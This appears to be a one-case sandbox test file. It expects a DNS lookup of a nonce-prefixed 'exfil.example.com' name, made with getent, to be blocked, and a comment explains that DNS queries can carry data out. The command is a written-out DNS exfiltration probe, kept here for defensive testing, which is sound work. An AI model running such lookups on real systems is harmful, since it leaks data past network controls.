# class: network
# expect: blocked
# control: sandbox
# reason: a DNS lookup carries data to whoever serves the name; the sandbox has no resolver it can reach
offhost getent hosts "$nonce.exfil.example.com"
